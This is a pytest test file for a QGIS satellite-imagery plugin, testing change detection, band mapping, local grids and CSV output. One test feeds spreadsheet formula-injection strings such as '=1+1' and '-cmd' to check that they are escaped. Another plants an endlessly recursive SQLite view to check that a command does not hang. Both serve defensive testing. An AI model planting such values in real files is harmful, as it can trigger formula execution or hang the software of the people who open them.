    with open(out / "summary.csv", newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["status"] == "failed" and row["error"].startswith("'=cut.tif is damaged"), row
    assert _batch(scene, out).returncode == 1  # read back and written again: one apostrophe, not two
    with open(out / "summary.csv", newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["error"].startswith("'=cut.tif is damaged"), row


def test_numbers_read_back_as_text_stay_numbers_in_a_csv():
    from planet_qgis_plugin.core.monitor.handoff import as_text

    assert [as_text(v) for v in ("-1", "-0.5", "+3", "-1e3", -1, 2.5, "", "ok")] == ["-1", "-0.5", "+3", "-1e3", -1, 2.5,
                                                                                     "", "ok"]
    assert [as_text(v) for v in ("=1+1", "-cmd", "@x", "+A1", "\tx")] == ["'=1+1", "'-cmd", "'@x", "'+A1", "'\tx"]


def test_an_absurd_thread_count_for_batch_is_refused_before_the_output_folder_is_made(tmp_path):
    """batch --threads 1000000000: each scene failed as 'ONNX model cannot be loaded (std::bad_alloc)', as if the
    bundle were damaged. Refused up front as --workers 1000 is."""
    from ..conftest import RAPIDEYE

    out = tmp_path / "out"
    proc = _batch(RAPIDEYE, out, "--threads", "1000000000")
    assert proc.returncode == 1 and proc.stderr.startswith("error: --threads 1000000000 is far more than"), proc.stderr
    assert proc.stderr.count("\n") == 1 and not out.exists()


# -- a local grid (an engineering CRS: no place on the earth) --------------------------------------------------------

LOCAL_GRID = 'LOCAL_CS["mine site grid",UNIT["metre",1],AXIS["Easting",EAST],AXIS["Northing",NORTH]]'


def test_change_of_layers_on_a_mine_sites_local_grid(make_raster, tmp_path):
    """Scenes georeferenced on a mine site's local grid (an engineering CRS, which no datum ties to the earth),
    classified, a flag raised on AFTER, then change with --report and --export: a 'TypeError: Wrong number or type
    of arguments for overloaded function 'CoordinateTransformation_TransformPoint'' traceback (GDAL gives an empty
    transformation to WGS 84), and with the scenes known, rasterio's CPLE_NotSupportedError. Compared as layers
    without a CRS are: lon/lat unknown. Against a layer in a projected CRS it is one line."""
    from rasterio.crs import CRS
    from rasterio.transform import from_origin

    from ..conftest import edit_tiles

    raster = make_raster(600, 600, crs=CRS.from_wkt(LOCAL_GRID), transform=from_origin(1000, 2000, 1, 1))
    before, after = tmp_path / "before.gpkg", tmp_path / "after.gpkg"
    assert _classify(raster, before).returncode == 0
    shutil.copyfile(before, after)
    edit_tiles(after, {(0, 1): {"flag_mining": 1, "flagged": 1, "score_mining": 1.0}})
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.change", str(before), str(after), "-o",
                           str(tmp_path / "change.gpkg"), "--report", str(tmp_path / "r.html"), "-q"], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr and "ERROR" not in proc.stderr, proc.stderr
    assert (tmp_path / "r.html").is_file()
    # --export hands alerts off in lon/lat, which a local grid has none of (alerts.csv had 'nan'): refused up front,
    # as for layers without a CRS, and by the Alerts dock's export of the change layer made without it
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.change", str(before), str(after), "-o",
                           str(tmp_path / "c1.gpkg"), "--export", str(tmp_path / "handoff"), "-q"], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert "local grid" in proc.stderr and not (tmp_path / "handoff").exists() and not (tmp_path / "c1.gpkg").exists()
    from planet_qgis_plugin.core.errors import OutputError
    from planet_qgis_plugin.core.monitor.handoff import export_alerts
    with pytest.raises(OutputError, match="local grid"):
        export_alerts(tmp_path / "change.gpkg", tmp_path / "handoff")
    assert not (tmp_path / "handoff").exists()
    utm = tmp_path / "utm.gpkg"
    assert _classify(make_raster(600, 600, name="utm.tif"), utm).returncode == 0
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.change", str(before), str(utm), "-o",
                           str(tmp_path / "c2.gpkg"), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert "no transformation between them" in proc.stderr and not (tmp_path / "c2.gpkg").exists()


@pytest.mark.parametrize("offset", [0.0, 0.5], ids=["one-lattice", "half-a-pixel-off"])
def test_change_of_two_rasters_on_one_local_grid(make_raster, tmp_path, offset):
    """change BEFORE.tif AFTER.tif, both on a mine site's local grid: 'AFTER's CRS cannot be transformed to BEFORE's
    (Cannot find coordinate operations ...)' although it is the same CRS (PROJ relates an engineering CRS to nothing,
    not even itself)."""
    from rasterio.crs import CRS
    from rasterio.transform import from_origin

    grid = CRS.from_wkt(LOCAL_GRID)
    before = make_raster(600, 600, crs=grid, transform=from_origin(1000, 2000, 1, 1), name="b.tif")
    after = make_raster(600, 600, crs=grid, transform=from_origin(1000 + offset, 2000 + offset, 1, 1), name="a.tif",
                        seed=1)
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.change", str(before), str(after), "-o",
                           str(tmp_path / "change.gpkg"), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0 and "tiles compared" in proc.stdout, proc.stderr


def test_an_area_of_interest_with_a_ring_of_no_area_is_quiet(make_raster, tmp_path):
    """--aoi whose polygon's ring goes out and back along one line (three points, no area: a digitising slip): rasterio
    printed 'ShapeSkipWarning: Invalid or empty shape ... will not be rasterized' and its source line once per tile
    checked. Its vertices mark the tiles they touch, as a one-pixel box's do, in silence."""
    raster = make_raster(300, 300)
    area = _area_gpkg(tmp_path / "slip.gpkg", "POLYGON((699700 100500,699800 100500,699700 100500))")
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(raster), "-o", str(tmp_path / "out.gpkg"),
                           "--aoi", str(area), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and "1 tile classified" in proc.stdout, proc.stderr
    assert "Warning" not in proc.stderr, proc.stderr


def test_a_band_mapping_naming_a_band_twice_says_so():
    """--bands red=1,red=2,blue=1 (a typo for green) said 'band mapping does not say which band is green': the second
    red silently replaced the first. The name given twice is said."""
    from planet_qgis_plugin.core.pipeline.bands import BandMappingError, map_bands

    with pytest.raises(BandMappingError, match=r"names red twice \(red=1, red=2\)"):
        map_bands(4, False, [None] * 4, RGB, "red=1,red=2,blue=1")
    with pytest.raises(BandMappingError, match=r"names red twice \(red=3, Red=3\)"):
        map_bands(4, False, [None] * 4, RGB, "red=3,green=2,blue=1,Red=3")
    assert map_bands(1, False, [None], RGB, "red=1,green=1,blue=1").indexes == (1, 1, 1)  # one band for all: fine


def test_teach_on_a_layer_whose_metadata_never_ends_is_one_line(tmp_path):
    """A tile layer whose gpkg_metadata_reference is a view that never ends: teach reads it with SQLite itself (not
    GDAL) and hung for good, deaf to Ctrl-C and SIGTERM."""
    import sqlite3

    from ..conftest import RAPIDEYE

    tiles = tmp_path / "tiles.gpkg"
    assert _classify(RAPIDEYE, tiles).returncode == 0
    conn = sqlite3.connect(tiles)
    conn.execute("ALTER TABLE gpkg_metadata_reference RENAME TO reference_kept")
    conn.execute(f"CREATE VIEW gpkg_metadata_reference AS {ENDLESS} SELECT r.* FROM reference_kept r, n "
                 "WHERE n.v < 0 UNION ALL SELECT * FROM reference_kept")
    conn.commit()
    conn.close()
    kept = tiles.read_bytes()
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.teach", str(tiles), "--name", "pits",
                           "--positive", "0:0"], cwd=ROOT, capture_output=True, text=True, timeout=60)
    _assert_one_line_quickly(proc, "tiles.gpkg", "gpkg_metadata_reference")
    assert tiles.read_bytes() == kept


def test_a_concept_with_a_long_history_saved_as_a_bundle_copy_loads(work, source):
    """teach --save-to (a copy of the bundle carrying the concept): a concept whose record of scenes passed the
    1,000,000 bytes a manifest may take failed with a line naming the copy's temporary folder ('...partial/
    manifest.json ... is it the right file?'). The manifest leaves out the oldest scene records instead."""
    from planet_qgis_plugin.core.model.bundle import MAX_MANIFEST_BYTES, load_bundle
    from planet_qgis_plugin.core.teach.save import save_concept

    concept = teach(planted()[0], [0, 1], name="pits", backbone_id=BACKBONE).concept
    concept.provenance["scenes"] = _scene_records(400, 300)
    saved = save_concept(concept, load_bundle(source), work / "saved")
    assert (work / "saved" / "manifest.json").stat().st_size <= MAX_MANIFEST_BYTES
    kept = next(c for c in saved.manifest.concepts if c.name == "pits")
    assert 1 <= len(kept.provenance["scenes"]) < 400 and kept.provenance["scenes"][-1]["scene"] == "/archive/strip_00399.tif"
    assert kept.weights == concept.weights


def test_bands_of_different_data_types_are_refused_with_the_way_to_one_type(make_raster, tmp_path):
    """A VRT stacking a 16-bit band and an 8-bit one: one line that says how to write the raster with one
    type (it named the types alone, in a random order)."""
    from osgeo import gdal

    wide = make_raster(300, 300, count=3, name="wide.tif")
    narrow = make_raster(300, 300, count=1, dtype="uint8", name="narrow.tif")
    vrt = tmp_path / "mixed.vrt"
    gdal.BuildVRT(str(vrt), [str(wide), str(narrow)], separate=True)
    text = vrt.read_text()
    assert "UInt16" in text and "Byte" in text, "the VRT should keep each band's own type"
    proc = _classify(vrt, tmp_path / "out.gpkg")
    assert proc.returncode == 1 and proc.stderr.count("\n") == 1, proc.stderr
    assert "have different data types (uint16, uint8)" in proc.stderr and "gdal_translate -ot UInt16" in proc.stderr
    assert not (tmp_path / "out.gpkg").exists()
